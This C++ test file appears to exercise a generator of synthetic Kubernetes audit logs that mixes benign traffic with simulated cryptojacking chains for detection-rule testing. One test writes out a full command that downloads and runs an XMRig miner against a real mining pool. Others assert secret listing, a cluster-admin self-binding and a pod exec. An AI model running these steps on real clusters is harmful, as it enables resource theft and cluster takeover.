// The traffic generator's own tests: it must be deterministic, ordered, well-formed, keep its
// promises about benign identities and attack chains, and its wrappers must carry the events
// unchanged (GKE: the fields GKE keeps).
#include "traffic_generator.hpp"

#include <gtest/gtest.h>

#include <chrono>

#include <algorithm>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

namespace {

using json = nlohmann::json;
using namespace mg::audit::testing;

constexpr std::int64_t kSecond = 1000000;
constexpr std::int64_t kMinute = 60 * kSecond;
constexpr std::int64_t kHour = 60 * kMinute;

const std::vector<GeneratedEvent>& default_traffic() {
  static const std::vector<GeneratedEvent> events = generate_traffic({});
  return events;
}

std::vector<std::string> split_lines(const std::string& text) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (start < text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string::npos) end = text.size();
    out.push_back(text.substr(start, end - start));
    start = end + 1;
  }
  return out;
}

// "2024-06-03T00:00:00.000000Z" → microseconds since 1970; -1 when not of that form.
std::int64_t parse_us(const std::string& s) {
  if (s.size() != 27 || s[4] != '-' || s[7] != '-' || s[10] != 'T' || s[13] != ':' || s[16] != ':' || s[19] != '.' ||
      s[26] != 'Z')
    return -1;
  auto num = [&s](std::size_t at, std::size_t n) { return std::stoll(s.substr(at, n)); };
  // The standard library's calendar, not a copy of the generator's own date arithmetic.
  const std::chrono::year_month_day date{std::chrono::year{static_cast<int>(num(0, 4))},
                                         std::chrono::month{static_cast<unsigned>(num(5, 2))},
                                         std::chrono::day{static_cast<unsigned>(num(8, 2))}};
  if (!date.ok()) return -1;
  const std::int64_t days = std::chrono::sys_days(date).time_since_epoch().count();
  return ((days * 24 + num(11, 2)) * 60 + num(14, 2)) * 60 * kSecond + num(17, 2) * kSecond + num(20, 6);
}

std::string url_decode(const std::string& s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '+') {
      out += ' ';
    } else if (s[i] == '%' && i + 2 < s.size()) {
      out += static_cast<char>(std::stoi(s.substr(i + 1, 2), nullptr, 16));
      i += 2;
    } else {
      out += s[i];
    }
  }
  return out;
}

bool is_read(const std::string& verb) { return verb == "get" || verb == "list" || verb == "watch"; }

std::vector<std::string> rules(std::initializer_list<const char*> ids) { return {ids.begin(), ids.end()}; }

// The expected rules of each step, from the brief.
const std::map<int, std::vector<std::string>>& step_rules() {
  static const std::map<int, std::vector<std::string>> table = {
      {1, rules({"MG-AUD-008"})},
      {2, rules({"MG-AUD-009"})},
      {3, rules({"MG-AUD-001", "MG-AUD-003", "MG-AUD-013"})},
      {4, rules({"MG-AUD-001", "MG-AUD-003"})},
      {5, rules({"MG-AUD-001", "MG-AUD-003"})},
      {6, rules({"MG-AUD-011"})},
      {7, rules({"MG-AUD-002", "MG-AUD-003", "MG-AUD-004", "MG-AUD-005", "MG-AUD-013"})},
      {8, rules({"MG-AUD-010"})},
      {9, rules({"MG-AUD-006", "MG-AUD-007"})},
  };
  return table;
}

std::vector<const GeneratedEvent*> chain_events(const std::vector<GeneratedEvent>& events, int chain) {
  std::vector<const GeneratedEvent*> out;
  for (const GeneratedEvent& e : events)
    if (e.chain == chain) out.push_back(&e);
  return out;
}

TEST(TrafficGenerator, DefaultsGiveTheRequestedCounts) {
  const auto& events = default_traffic();
  const TrafficOptions defaults;
  ASSERT_EQ(events.size(), static_cast<std::size_t>(defaults.benign_events + defaults.chains * kChainSteps));
  std::size_t benign = 0;
  for (const GeneratedEvent& e : events) benign += e.chain == -1;
  EXPECT_EQ(benign, static_cast<std::size_t>(defaults.benign_events));
}

TEST(TrafficGenerator, SameSeedSameBytesOtherSeedOtherBytes) {
  TrafficOptions small;
  small.benign_events = 1500;
  const auto a = generate_traffic(small);
  const auto b = generate_traffic(small);
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].json, b[i].json);
    EXPECT_EQ(a[i].expected_rules, b[i].expected_rules);
    EXPECT_EQ(a[i].chain, b[i].chain);
    EXPECT_EQ(a[i].audit_id, b[i].audit_id);
  }
  EXPECT_EQ(to_json_lines(a), to_json_lines(b));
  EXPECT_EQ(wrap_gke(a), wrap_gke(b));
  small.seed = 2;
  const auto c = generate_traffic(small);
  EXPECT_NE(to_json_lines(a), to_json_lines(c));
  // the defaults too (the big run the audit tests use)
  EXPECT_EQ(to_json_lines(generate_traffic({})), to_json_lines(default_traffic()));
}

TEST(TrafficGenerator, TimestampReaderAgreesWithKnownInstants) {
  EXPECT_EQ(parse_us("1970-01-01T00:00:00.000000Z"), 0);
  EXPECT_EQ(parse_us("2024-06-03T00:00:00.000000Z"), kTrafficStartUs);  // date -u -d 2024-06-03 +%s: 1717372800
  EXPECT_EQ(parse_us("2024-02-29T23:59:59.000001Z"), 1709251199000001);
  EXPECT_EQ(parse_us("2024-02-30T00:00:00.000000Z"), -1);
}

TEST(TrafficGenerator, SortedByTimeAndTimesAreTheEvents) {
  const auto& events = default_traffic();
  ASSERT_FALSE(events.empty());
  EXPECT_EQ(events.front().time_us, kTrafficStartUs);
  for (std::size_t i = 1; i < events.size(); ++i) ASSERT_LE(events[i - 1].time_us, events[i].time_us) << i;
  for (const GeneratedEvent& e : events) {
    const json ev = json::parse(e.json);
    const std::int64_t received = parse_us(ev["requestReceivedTimestamp"].get<std::string>());
    const std::int64_t stage = parse_us(ev["stageTimestamp"].get<std::string>());
    ASSERT_EQ(received, e.time_us) << e.json;
    ASSERT_GT(stage, received) << e.json;
    ASSERT_LT(stage - received, kSecond) << e.json;
  }
  for (const GeneratedEvent& e : events)
    if (e.chain == -1) {
      EXPECT_GE(e.time_us, kTrafficStartUs);
      EXPECT_LT(e.time_us, kTrafficStartUs + 24 * kHour);
    }
}

TEST(TrafficGenerator, EveryLineIsAnAuditEvent) {
  const auto& events = default_traffic();
  const std::vector<std::string> lines = split_lines(to_json_lines(events));
  ASSERT_EQ(lines.size(), events.size());
  std::set<std::string> ids;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const std::string& line = lines[i];
    ASSERT_EQ(line, events[i].json);
    ASSERT_EQ(line.find('\n'), std::string::npos);
    json ev;
    ASSERT_NO_THROW(ev = json::parse(line)) << line;
    ASSERT_EQ(ev["kind"], "Event");
    ASSERT_EQ(ev["apiVersion"], "audit.k8s.io/v1");
    ASSERT_EQ(ev["auditID"], events[i].audit_id);
    ASSERT_TRUE(ids.insert(events[i].audit_id).second) << "duplicate auditID " << events[i].audit_id;
    ASSERT_TRUE(ev["user"]["username"].is_string());
    ASSERT_TRUE(ev["user"]["groups"].is_array());
    ASSERT_EQ(ev["sourceIPs"].size(), 1u);
    ASSERT_TRUE(ev["userAgent"].is_string());
    ASSERT_TRUE(ev["responseStatus"]["code"].is_number_integer());
    ASSERT_EQ(ev["annotations"]["authorization.k8s.io/decision"], "allow");
    const std::string verb = ev["verb"].get<std::string>();
    const std::string level = ev["level"].get<std::string>();
    const int code = ev["responseStatus"]["code"].get<int>();
    if (ev.contains("objectRef") && ev["objectRef"].value("subresource", "") == "exec") {
      EXPECT_EQ(level, "Request");
      EXPECT_EQ(ev["stage"], "ResponseStarted");
      EXPECT_EQ(code, 101);
      EXPECT_FALSE(ev.contains("requestObject"));
      continue;
    }
    EXPECT_EQ(ev["stage"], "ResponseComplete");
    if (is_read(verb)) {
      EXPECT_EQ(level, "Metadata") << line;
      EXPECT_FALSE(ev.contains("requestObject"));
      EXPECT_FALSE(ev.contains("responseObject"));
      EXPECT_EQ(code, 200);
    } else {
      EXPECT_EQ(level, "RequestResponse") << line;
      EXPECT_TRUE(ev.contains("requestObject")) << line;
      EXPECT_TRUE(ev.contains("responseObject")) << line;
      EXPECT_EQ(code, verb == "create" ? 201 : 200) << line;
    }
  }
}

TEST(TrafficGenerator, BenignIdentitiesAllAppearInTheFirstHour) {
  const auto& events = default_traffic();
  std::map<std::string, std::int64_t> first_seen;
  std::set<std::string> chain_users;
  for (int c = 1; c <= 3; ++c) chain_users.insert(chain_actor(c));
  for (const GeneratedEvent& e : events) {
    if (e.chain != -1) continue;
    const json ev = json::parse(e.json);
    const std::string user = ev["user"]["username"].get<std::string>();
    first_seen.emplace(user, e.time_us);
    EXPECT_FALSE(chain_users.contains(user)) << user;
    EXPECT_TRUE(e.expected_rules.empty());
    EXPECT_EQ(e.step, 0);
  }
  for (const auto& [user, t] : first_seen) EXPECT_LT(t, kTrafficStartUs + kHour) << user;
  // the identities the brief names, all there
  for (const char* user :
       {"system:serviceaccount:kube-system:replicaset-controller", "system:serviceaccount:kube-system:statefulset-controller",
        "system:serviceaccount:kube-system:job-controller", "system:kube-scheduler", "system:node:gpu-node-1",
        "system:serviceaccount:kubeflow:notebook-controller-service-account",
        "system:serviceaccount:kubeflow:training-operator", "system:serviceaccount:kubeflow:argo",
        "system:serviceaccount:kubeflow:ml-pipeline", "system:serviceaccount:kubeflow:profiles-controller-service-account",
        "system:serviceaccount:kubeflow:jupyter-web-app-service-account", "alice@example.com", "bob@example.com",
        "kubernetes-admin", "system:anonymous"})
    EXPECT_TRUE(first_seen.contains(user)) << user;
  // the chains' other actors are benign identities too (so only default-editor is new)
  for (const GeneratedEvent& e : events) {
    if (e.chain == -1 || e.step >= 6) continue;
    const json ev = json::parse(e.json);
    EXPECT_TRUE(first_seen.contains(ev["user"]["username"].get<std::string>())) << e.json;
  }
}

TEST(TrafficGenerator, BenignAnonymousRequestsAreHealthChecksOnly) {
  int seen = 0;
  for (const GeneratedEvent& e : default_traffic()) {
    if (e.chain != -1) continue;
    const json ev = json::parse(e.json);
    if (ev["user"]["username"] != "system:anonymous") continue;
    ++seen;
    EXPECT_FALSE(ev.contains("objectRef"));
    const std::string uri = ev["requestURI"].get<std::string>();
    EXPECT_TRUE(uri == "/healthz" || uri == "/version" || uri == "/readyz" || uri == "/livez") << uri;
    EXPECT_EQ(ev["verb"], "get");
    EXPECT_EQ(ev["responseStatus"]["code"], 200);
    EXPECT_EQ(ev["user"]["groups"], json::array({"system:unauthenticated"}));
  }
  EXPECT_GT(seen, 100);
}

TEST(TrafficGenerator, BenignTrafficCarriesNoAttackIndicator) {
  for (const GeneratedEvent& e : default_traffic()) {
    if (e.chain != -1) continue;
    EXPECT_EQ(e.json.find(kMinerImage), std::string::npos);
    EXPECT_EQ(e.json.find(kWallet), std::string::npos);
    EXPECT_EQ(e.json.find(kPoolHost), std::string::npos);
    EXPECT_EQ(e.json.find("LoadBalancer"), std::string::npos);
    EXPECT_FALSE(json::parse(e.json)["user"]["username"].get<std::string>().ends_with(":default-editor"));
    EXPECT_EQ(e.json.find("\"subresource\":\"exec\""), std::string::npos);
    EXPECT_EQ(e.json.find("clusterrolebindings"), std::string::npos);
  }
}

TEST(TrafficGenerator, EachChainHasItsNineSteps) {
  const auto& events = default_traffic();
  std::vector<std::int64_t> starts, ends;
  for (int c = 1; c <= 3; ++c) {
    const auto steps = chain_events(events, c);
    ASSERT_EQ(steps.size(), static_cast<std::size_t>(kChainSteps)) << "chain " << c;
    for (int s = 1; s <= kChainSteps; ++s) {
      const GeneratedEvent& e = *steps[static_cast<std::size_t>(s - 1)];
      EXPECT_EQ(e.step, s) << "chain " << c;
      EXPECT_EQ(e.expected_rules, step_rules().at(s)) << "chain " << c << " step " << s;
      EXPECT_TRUE(std::is_sorted(e.expected_rules.begin(), e.expected_rules.end()));
      const json ev = json::parse(e.json);
      const std::string user = ev["user"]["username"].get<std::string>();
      if (s >= 6) {
        EXPECT_EQ(user, chain_actor(c));
      }
      if (s >= 3 && s != 8) {
        EXPECT_EQ(ev["objectRef"]["namespace"], chain_namespace(c)) << e.json;
      }
      if (s == 6 || s == 7) {
        EXPECT_EQ(ev["user"]["extra"]["authentication.kubernetes.io/pod-name"][0],
                  json::parse(steps[4]->json)["objectRef"]["name"]);
      }
    }
    EXPECT_LT(steps.back()->time_us - steps.front()->time_us, 30 * kMinute) << "chain " << c;
    starts.push_back(steps.front()->time_us);
    ends.push_back(steps.back()->time_us);
  }
  EXPECT_GE(starts[0], kTrafficStartUs + 2 * kHour);
  for (std::size_t i = 1; i < starts.size(); ++i) {
    EXPECT_GE(starts[i] - starts[i - 1], 3 * kHour);
    EXPECT_GE(starts[i] - ends[i - 1], 3 * kHour);
  }
  EXPECT_LT(ends.back(), kTrafficStartUs + 24 * kHour);
}

TEST(TrafficGenerator, AttackStepsCarryTheirIndicators) {
  ASSERT_EQ(kWallet.size(), 95u);
  ASSERT_EQ(kWallet.front(), '4');
  const auto steps = chain_events(default_traffic(), 1);
  ASSERT_EQ(steps.size(), 9u);
  std::vector<json> ev;
  for (const GeneratedEvent* e : steps) ev.push_back(json::parse(e->json));

  // 1: a Service made a LoadBalancer by kubernetes-admin
  EXPECT_EQ(ev[0]["user"]["username"], "kubernetes-admin");
  EXPECT_EQ(ev[0]["verb"], "patch");
  EXPECT_EQ(ev[0]["objectRef"]["resource"], "services");
  EXPECT_EQ(ev[0]["requestObject"]["spec"]["type"], "LoadBalancer");
  EXPECT_EQ(ev[0]["responseObject"]["spec"]["type"], "LoadBalancer");
  const std::string service = ev[0]["objectRef"]["name"].get<std::string>();
  EXPECT_TRUE(service == "istio-ingressgateway" || service == "ml-pipeline-ui");
  // 2: anonymous and successful, on a resource
  EXPECT_EQ(ev[1]["user"]["username"], "system:anonymous");
  EXPECT_EQ(ev[1]["user"]["groups"], json::array({"system:unauthenticated"}));
  EXPECT_EQ(ev[1]["objectRef"]["resource"], "namespaces");
  EXPECT_EQ(ev[1]["responseStatus"]["code"], 200);
  // 3: the Notebook
  const json& nb = ev[2]["requestObject"];
  EXPECT_EQ(ev[2]["user"]["username"], "system:serviceaccount:kubeflow:jupyter-web-app-service-account");
  EXPECT_EQ(nb["kind"], "Notebook");
  EXPECT_EQ(nb["metadata"]["annotations"]["notebooks.kubeflow.org/creator"], "anonymous@kubeflow.org");
  const json& nb_pod = nb["spec"]["template"]["spec"];
  EXPECT_EQ(nb_pod["containers"][0]["image"], std::string(kMinerImage));
  EXPECT_EQ(nb_pod["nodeSelector"]["nvidia.com/gpu.present"], "true");
  EXPECT_EQ(nb_pod["containers"][0]["resources"]["limits"]["nvidia.com/gpu"], "1");
  EXPECT_EQ(ev[2]["level"], "RequestResponse");
  // 4: the StatefulSet, owned by the Notebook
  EXPECT_EQ(ev[3]["user"]["username"], "system:serviceaccount:kubeflow:notebook-controller-service-account");
  EXPECT_EQ(ev[3]["requestObject"]["metadata"]["ownerReferences"][0]["kind"], "Notebook");
  EXPECT_EQ(ev[3]["requestObject"]["metadata"]["ownerReferences"][0]["uid"], ev[2]["responseObject"]["metadata"]["uid"]);
  EXPECT_EQ(ev[3]["requestObject"]["spec"]["template"]["spec"]["containers"][0]["image"], std::string(kMinerImage));
  // 5: its Pod, owned by the StatefulSet; the token used from step 6 on is bound to it
  EXPECT_EQ(ev[4]["requestObject"]["metadata"]["ownerReferences"][0]["uid"], ev[3]["responseObject"]["metadata"]["uid"]);
  for (std::size_t s = 5; s < 9; ++s) {
    EXPECT_EQ(ev[s]["user"]["extra"]["authentication.kubernetes.io/pod-uid"][0], ev[4]["responseObject"]["metadata"]["uid"]);
  }
  EXPECT_EQ(ev[4]["user"]["username"], "system:serviceaccount:kube-system:statefulset-controller");
  EXPECT_EQ(ev[4]["requestObject"]["metadata"]["ownerReferences"][0]["kind"], "StatefulSet");
  EXPECT_EQ(ev[4]["requestObject"]["metadata"]["ownerReferences"][0]["controller"], true);
  EXPECT_EQ(ev[4]["requestObject"]["spec"]["containers"][0]["image"], std::string(kMinerImage));
  // 6: the token lists secrets
  EXPECT_EQ(ev[5]["verb"], "list");
  EXPECT_EQ(ev[5]["objectRef"]["resource"], "secrets");
  // 7: a Deployment downloading and starting XMRig
  const json& ctr = ev[6]["requestObject"]["spec"]["template"]["spec"]["containers"][0];
  EXPECT_EQ(ctr["image"], std::string(kDropperImage));
  ASSERT_EQ(ctr["command"].size(), 3u);
  EXPECT_EQ(ctr["command"][0], "sh");
  EXPECT_EQ(ctr["command"][1], "-c");
  const std::string script = ctr["command"][2].get<std::string>();
  EXPECT_EQ(script, "wget -q http://203.0.113.7/xmrig -O /tmp/x && chmod +x /tmp/x && /tmp/x -o "
                    "stratum+tcp://pool.supportxmr.com:3333 -u " + std::string(kWallet) + " --donate-level 1");
  EXPECT_EQ(ev[6]["requestObject"]["spec"]["template"]["spec"]["nodeSelector"]["nvidia.com/gpu.present"], "true");
  // 8: cluster-admin for itself, created
  EXPECT_EQ(ev[7]["objectRef"]["resource"], "clusterrolebindings");
  EXPECT_EQ(ev[7]["requestObject"]["roleRef"]["name"], "cluster-admin");
  EXPECT_EQ(ev[7]["requestObject"]["subjects"][0]["name"], "default-editor");
  EXPECT_EQ(ev[7]["requestObject"]["subjects"][0]["namespace"], chain_namespace(1));
  EXPECT_EQ(ev[7]["responseStatus"]["code"], 201);
  // 9: exec into the notebook pod, the miner in the (encoded) command
  EXPECT_EQ(ev[8]["objectRef"]["subresource"], "exec");
  EXPECT_EQ(ev[8]["objectRef"]["name"], ev[4]["responseObject"]["metadata"]["name"]);
  const std::string uri = ev[8]["requestURI"].get<std::string>();
  EXPECT_NE(uri.find("?command=sh&command=-c&command="), std::string::npos) << uri;
  EXPECT_EQ(uri.find(' '), std::string::npos) << "kubectl percent-encodes the query";
  const std::string decoded = url_decode(uri);
  EXPECT_NE(decoded.find("/tmp/x -o pool.supportxmr.com:3333 -u " + std::string(kWallet)), std::string::npos) << decoded;
}

TEST(TrafficGenerator, OptionsAreHonoured) {
  TrafficOptions only_chain;
  only_chain.benign_events = 0;
  only_chain.chains = 1;
  const auto one = generate_traffic(only_chain);
  ASSERT_EQ(one.size(), 9u);
  for (const GeneratedEvent& e : one) EXPECT_EQ(e.chain, 1);

  TrafficOptions no_chain;
  no_chain.benign_events = 50;
  no_chain.chains = 0;
  no_chain.hours = 6;
  const auto benign = generate_traffic(no_chain);
  ASSERT_EQ(benign.size(), 50u);
  for (const GeneratedEvent& e : benign) {
    EXPECT_EQ(e.chain, -1);
    EXPECT_LT(e.time_us, kTrafficStartUs + 6 * kHour);
  }

  TrafficOptions crowded;  // more chains than fit in the window: still 3 h apart, past the window
  crowded.benign_events = 100;
  crowded.chains = 4;
  crowded.hours = 8;
  const auto many = generate_traffic(crowded);
  ASSERT_EQ(many.size(), 100u + 36u);
  std::int64_t last_start = 0;
  for (int c = 1; c <= 4; ++c) {
    const auto steps = chain_events(many, c);
    ASSERT_EQ(steps.size(), 9u);
    if (c > 1) {
      EXPECT_GE(steps.front()->time_us - last_start, 3 * kHour);
    }
    last_start = steps.front()->time_us;
  }
}

TEST(TrafficGenerator, AksWrapperRoundTrips) {
  const auto& events = default_traffic();
  const std::string text = wrap_aks(events);
  ASSERT_EQ(text.back(), '\n');
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 1) << "one document on one line";
  const json doc = json::parse(text);
  ASSERT_EQ(doc["records"].size(), events.size());
  for (std::size_t i = 0; i < events.size(); ++i) {
    const json& r = doc["records"][i];
    ASSERT_EQ(r["category"], "kube-audit");
    ASSERT_EQ(r["operationName"], "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read");
    ASSERT_EQ(r["properties"]["log"], events[i].json + "\n");
    ASSERT_EQ(r["properties"]["stream"], "stdout");
    ASSERT_TRUE(r["time"].get<std::string>().ends_with(".0000000Z"));
  }
}

TEST(TrafficGenerator, EksWrapperRoundTrips) {
  const auto& events = default_traffic();
  const std::string text = wrap_eks(events);
  ASSERT_GT(std::count(text.begin(), text.end(), '\n'), 1) << "indented like the AWS CLI";
  const json doc = json::parse(text);
  ASSERT_TRUE(doc["searchedLogStreams"].is_array());
  ASSERT_EQ(doc["events"].size(), events.size());
  std::int64_t last = 0;
  std::set<std::string> ids;
  for (std::size_t i = 0; i < events.size(); ++i) {
    const json& item = doc["events"][i];
    ASSERT_EQ(item["message"], events[i].json);
    ASSERT_TRUE(item["logStreamName"].get<std::string>().starts_with("kube-apiserver-audit-"));
    const std::int64_t ts = item["timestamp"].get<std::int64_t>();
    ASSERT_EQ(ts, events[i].time_us / 1000);
    ASSERT_GE(ts, last);
    last = ts;
    ASSERT_GT(item["ingestionTime"].get<std::int64_t>(), ts);
    const std::string id = item["eventId"].get<std::string>();
    ASSERT_EQ(id.size(), 56u);
    ASSERT_TRUE(ids.insert(id).second);
  }
}

TEST(TrafficGenerator, GkeWrapperRoundTrips) {
  const auto& events = default_traffic();
  const std::vector<std::string> lines = split_lines(wrap_gke(events));
  std::size_t at = 0;
  for (const GeneratedEvent& e : events) {
    const json ev = json::parse(e.json);
    if (!ev.contains("objectRef")) continue;  // non-resource URLs are left out
    ASSERT_LT(at, lines.size());
    const json entry = json::parse(lines[at++]);
    const json& p = entry["protoPayload"];
    const json& ref = ev["objectRef"];
    ASSERT_EQ(p["@type"], "type.googleapis.com/google.cloud.audit.AuditLog");
    ASSERT_EQ(p["serviceName"], "k8s.io");
    ASSERT_EQ(entry["insertId"], ev["auditID"]);
    ASSERT_EQ(entry["operation"]["id"], ev["auditID"]);
    ASSERT_EQ(entry["resource"]["type"], "k8s_cluster");
    ASSERT_EQ(entry["resource"]["labels"]["cluster_name"], "mg-kubeflow");
    ASSERT_EQ(entry["timestamp"], ev["requestReceivedTimestamp"]);
    ASSERT_EQ(entry["labels"], ev["annotations"]);
    ASSERT_EQ(p["authenticationInfo"]["principalEmail"], ev["user"]["username"]);
    ASSERT_EQ(p["requestMetadata"]["callerIp"], ev["sourceIPs"][0]);
    ASSERT_EQ(p["requestMetadata"]["callerSuppliedUserAgent"], ev["userAgent"]);
    const std::string verb = ev["verb"].get<std::string>();
    ASSERT_TRUE(entry["logName"].get<std::string>().ends_with(is_read(verb) ? "%2Fdata_access" : "%2Factivity"));

    // methodName: io.k8s.<group>.<version>.<resource>[.<subresource>].<verb>
    const std::string method = p["methodName"].get<std::string>();
    ASSERT_TRUE(method.ends_with("." + verb)) << method;
    std::string tail = "." + ref["apiVersion"].get<std::string>() + "." + ref["resource"].get<std::string>();
    if (ref.contains("subresource")) tail += "." + ref["subresource"].get<std::string>();
    ASSERT_NE(method.find(tail + "." + verb), std::string::npos) << method;
    const std::string group = ref.value("apiGroup", "");
    if (group.empty()) {
      ASSERT_TRUE(method.starts_with("io.k8s.core.v1.")) << method;
    }
    if (group == "rbac.authorization.k8s.io") {
      ASSERT_TRUE(method.starts_with("io.k8s.authorization.rbac.v1.")) << method;
    }
    if (group == "apps") {
      ASSERT_TRUE(method.starts_with("io.k8s.apps.v1.")) << method;
    }
    if (group == "kubeflow.org") {
      ASSERT_TRUE(method.starts_with("org.kubeflow.v1")) << method;
    }

    // resourceName: <group|core>/<version>[/namespaces/<ns>]/<resource>[/<name>][/<subresource>]
    std::string name = (group.empty() ? std::string("core") : group) + "/" + ref["apiVersion"].get<std::string>();
    if (ref.contains("namespace")) name += "/namespaces/" + ref["namespace"].get<std::string>();
    name += "/" + ref["resource"].get<std::string>();
    if (ref.contains("name")) name += "/" + ref["name"].get<std::string>();
    if (ref.contains("subresource")) name += "/" + ref["subresource"].get<std::string>();
    ASSERT_EQ(p["resourceName"], name);
    ASSERT_EQ(p["authorizationInfo"][0]["permission"], method);
    ASSERT_EQ(p["authorizationInfo"][0]["resource"], name);

    // status: google.rpc code 0 for 1xx/2xx
    const int code = ev["responseStatus"]["code"].get<int>();
    ASSERT_EQ(p["status"]["code"], code < 400 ? 0 : code == 403 ? 7 : -1);

    // request/response: the objects, with GKE's @type in front
    for (const auto& [gke_key, k8s_key] : {std::pair{"request", "requestObject"}, std::pair{"response", "responseObject"}}) {
      ASSERT_EQ(p.contains(gke_key), ev.contains(k8s_key)) << gke_key;
      if (!ev.contains(k8s_key)) continue;
      json object = p[gke_key];
      const std::string type = object["@type"].get<std::string>();
      ASSERT_TRUE(type == "k8s.io/Patch" || type.ends_with("." + ev[k8s_key].value("kind", std::string()))) << type;
      object.erase("@type");
      ASSERT_EQ(object, ev[k8s_key]);
    }
  }
  EXPECT_EQ(at, lines.size());
  EXPECT_GT(lines.size(), events.size() / 2);
}

}  // namespace
